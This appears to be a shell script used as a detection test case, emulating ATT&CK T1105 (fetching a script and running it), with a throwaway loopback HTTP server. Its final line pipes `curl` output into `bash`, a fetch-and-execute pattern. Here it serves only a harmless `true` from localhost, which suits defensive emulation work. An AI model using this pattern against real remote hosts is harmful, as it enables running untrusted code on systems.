#!/bin/sh
# case: T1105-curl-to-interpreter
# technique: Script fetched and given to an interpreter
# source: redcanaryco/atomic-red-team T1105; Kinsing
# needs: curl bash
# expect: net exec
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
# HTTP peer on loopback. HO_SINK=host:port uses a sink that was already there when the baseline was learned.
ho_serve() { # file times -> URL in $U, server pid in $SRV
  if [ -n "${HO_SINK:-}" ]; then U="http://$HO_SINK"; SRV=; return 0; fi
  P=${HO_PORT:-$((20000 + $$ % 20000))}; U="http://127.0.0.1:$P"
  if command -v python3 >/dev/null 2>&1; then python3 -c 'import socket,sys
s=socket.socket();s.setsockopt(1,2,1);s.bind(("127.0.0.1",int(sys.argv[1])));s.listen(9);s.settimeout(20)
b=open(sys.argv[2],"rb").read()
for i in range(int(sys.argv[3])):
    c,_=s.accept();c.settimeout(3)
    try:
        d=c.recv(65536)
        while b"\r\n\r\n" not in d: d+=c.recv(65536)
        h,r=d.split(b"\r\n\r\n",1)
        n=[int(l.split(b":")[1]) for l in h.split(b"\r\n") if l.lower().startswith(b"content-length:")]
        while n and len(r)<n[0]: r+=c.recv(65536)
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n"%len(b)+b)
    except OSError: pass
    c.close()' "$P" "$1" "$2" >/dev/null 2>&1 &
  elif command -v perl >/dev/null 2>&1; then perl -MSocket -e 'my($p,$f,$n)=@ARGV;$SIG{ALRM}=sub{exit};alarm 20;socket(S,PF_INET,SOCK_STREAM,0);setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);bind(S,sockaddr_in($p,INADDR_LOOPBACK));listen(S,9);open F,$f;local $/;my $b=<F>;for(1..$n){accept(C,S);my($d,$k)=("","");while($d!~/\r\n\r\n/){sysread(C,$k,65536)or last;$d.=$k}my($l)=$d=~/content-length: *(\d+)/i;$d=~s/^.*?\r\n\r\n//s;while($l&&length($d)<$l){sysread(C,$k,65536)or last;$d.=$k}syswrite(C,"HTTP/1.0 200 OK\r\nContent-Length: ".length($b)."\r\n\r\n$b");close C}' "$P" "$1" "$2" >/dev/null 2>&1 &
  elif command -v nc >/dev/null 2>&1; then ( i=0; while [ $i -lt "$2" ]; do { printf 'HTTP/1.0 200 OK\r\nContent-Length: %s\r\n\r\n' "$(wc -c < "$1")"; cat "$1"; } | nc -l -s 127.0.0.1 -p "$P" >/dev/null 2>&1 || break; i=$((i+1)); done ) &
  else echo "SKIP: no python3, perl or nc for the loopback peer"; exit 77; fi
  SRV=$!; sleep 1; }
ho_stop() { [ -n "${SRV:-}" ] && kill "$SRV" 2>/dev/null; SRV=; }
ho_http() { # GET|POST url [file] [header] -> body on standard output
  case "$(readlink -f "$(command -v wget || echo /none)")" in *busybox*|/none) w=;; *) w=1;; esac
  if command -v curl >/dev/null 2>&1; then if [ "$1" = POST ]; then curl -s -m 8 --data-binary "@$3" "$2"; else curl -s -m 4 ${4:+-H "$4"} "$2"; fi
  elif [ -n "$w" ]; then if [ "$1" = POST ]; then wget -q -T 8 -O - --post-file="$3" "$2"; else wget -q -T 4 -O - ${4:+--header "$4"} "$2"; fi
  elif command -v nc >/dev/null 2>&1; then h=${2#http://}; q=/; case $h in */*) q=/${h#*/};; esac; h=${h%%/*}
    { if [ "$1" = POST ]; then printf 'POST %s HTTP/1.0\r\nHost: %s\r\nContent-Length: %s\r\n\r\n' "$q" "$h" "$(wc -c < "$3")"; cat "$3"; else printf 'GET %s HTTP/1.0\r\nHost: %s\r\n' "$q" "$h"; [ -n "${4:-}" ] && printf '%s\r\n' "$4"; printf '\r\n'; fi; } | nc -w 4 "${h%%:*}" "${h##*:}" | { r=$(printf '\r'); while IFS= read -r l; do [ "$l" = "$r" ] && break; done; cat; }
  elif command -v python3 >/dev/null 2>&1; then python3 -c 'import sys,urllib.request as u;sys.stdout.buffer.write(u.urlopen(u.Request(sys.argv[2],open(sys.argv[3],"rb").read() if sys.argv[1]=="POST" else None),timeout=6).read())' "$1" "$2" "${3:-}"
  else echo "SKIP: no HTTP client"; exit 77; fi; }
ho_get() { ho_http GET "$1" "" "${2:-}"; }
trap 'ho_stop; cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
need curl bash
printf 'true\n' > "$W/r"; ho_serve "$W/r" 1; curl -s -m 4 "$U/i.sh" | bash; true
exit 0
